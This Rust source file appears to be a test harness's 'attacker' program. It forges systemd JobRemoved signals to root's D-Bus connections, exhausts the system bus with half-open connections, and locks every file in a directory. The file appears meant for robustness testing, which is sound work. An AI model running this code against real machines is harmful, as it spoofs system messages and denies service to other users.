//! An unprivileged user of a test machine who wants to decide what becomes of it. Goes on until the machine ends.
//!
//! - `attacker signals`: sends signals that look like systemd's, with wrong and with right bodies, to every connection of
//!   root on the system bus, as fast as the bus takes them.
//! - `attacker connections`: opens connections to the system bus and never says who it is.
//! - `attacker lock DIRECTORY`: holds a lock on all files in there that it can open.

use std::collections::{HashMap, HashSet};
use std::fs::{self, File};
use std::io::{ErrorKind, Read, Write};
use std::os::unix::net::UnixStream;
use std::path::PathBuf;
use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::{Result, bail};
use zbus::fdo::DBusProxy;
use zbus::names::{BusName, OwnedUniqueName};
use zbus::{Message, ObjectPath};

const BUS: &str = "unix:path=/run/dbus/system_bus_socket";
const BUS_SOCKET: &str = "/run/dbus/system_bus_socket";
const SYSTEMD: &str = "/org/freedesktop/systemd1";
const MANAGER: &str = "org.freedesktop.systemd1.Manager";
/// How often it looks for new victims …
const LOOK: Duration = Duration::from_millis(20);
/// … and for new files.
const SOON: Duration = Duration::from_millis(1);
/// Jobs of a boot have numbers like these.
const JOBS: u32 = 2000;

fn main() -> Result<()> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    match arguments.split_first() {
        Some((what, [])) if what == "signals" => zbus::block_on(signals()),
        Some((what, [])) if what == "connections" => connections(),
        Some((what, [directory])) if what == "lock" => lock(directory),
        _ => bail!("usage: attacker signals | connections | lock DIRECTORY"),
    }
}

async fn signals() -> Result<()> {
    let connection = loop {
        match zbus::connection::Builder::address(BUS).build().await {
            Ok(connection) => break connection,
            Err(_) => sleep(LOOK),
        }
    };
    let bus = DBusProxy::new(&connection).await?;
    let mut seen = HashSet::new();
    let mut victims: Vec<OwnedUniqueName> = Vec::new();
    let mut looked: Option<Instant> = None;
    for job in (1..JOBS).cycle() {
        if looked.is_none_or(|looked| looked.elapsed() >= LOOK) {
            victims.extend(roots(&bus, &mut seen).await?);
            looked = Some(Instant::now());
        }
        for victim in &victims {
            for signal in forged(victim, job)? {
                connection.send(&signal).await?;
            }
        }
    }
    Ok(())
}

/// Connections of root that were not there before.
async fn roots(
    bus: &DBusProxy<'_>,
    seen: &mut HashSet<OwnedUniqueName>,
) -> Result<Vec<OwnedUniqueName>> {
    let mut roots = Vec::new();
    for name in bus.list_names().await? {
        let BusName::Unique(name) = name.inner().clone() else {
            continue;
        };
        let name = OwnedUniqueName::from(name);
        if !seen.insert(name.clone()) {
            continue;
        }
        // It may be gone already.
        let user = bus.get_connection_unix_user((&*name).into()).await;
        if user.is_ok_and(|user| user == 0) {
            roots.push(name);
        }
    }
    Ok(roots)
}

/// With a wrong body, and with one as systemd's own.
fn forged(victim: &OwnedUniqueName, job: u32) -> Result<[Message; 2]> {
    let signal = || Message::signal(SYSTEMD, MANAGER, "JobRemoved").destination(victim.as_str());
    let path = ObjectPath::try_from(format!("{SYSTEMD}/job/{job}"))?;
    let end = (job, path, "health-check.target", "failed");
    Ok([signal().build(&("gone",))?, signal().build(&end)?])
}

/// Opens as many as it may, each again when the bus has had enough of it.
fn connections() -> Result<()> {
    let mut open: Vec<UnixStream> = Vec::new();
    loop {
        open.retain(is_open);
        while let Ok(mut stream) = UnixStream::connect(BUS_SOCKET) {
            // A greeting that is never finished.
            if stream.write_all(b"\0").is_ok() && stream.set_nonblocking(true).is_ok() {
                open.push(stream);
            }
        }
        sleep(SOON);
    }
}

fn is_open(mut stream: &UnixStream) -> bool {
    let read = stream.read(&mut [0; 64]);
    read.is_err_and(|error| error.kind() == ErrorKind::WouldBlock)
}

/// Opens and locks everything below a directory that it may, again and again.
fn lock(directory: &str) -> Result<()> {
    let mut held: HashMap<PathBuf, File> = HashMap::new();
    loop {
        let files = fs::read_dir(directory).into_iter().flatten().flatten();
        let paths = files.map(|entry| entry.path()).chain([directory.into()]);
        for path in paths
            .filter(|path| !held.contains_key(path))
            .collect::<Vec<_>>()
        {
            let Ok(file) = File::open(&path) else {
                continue;
            };
            if file.try_lock().is_ok() {
                println!("holds '{}'", path.display());
                held.insert(path, file);
            }
        }
        sleep(SOON);
    }
}
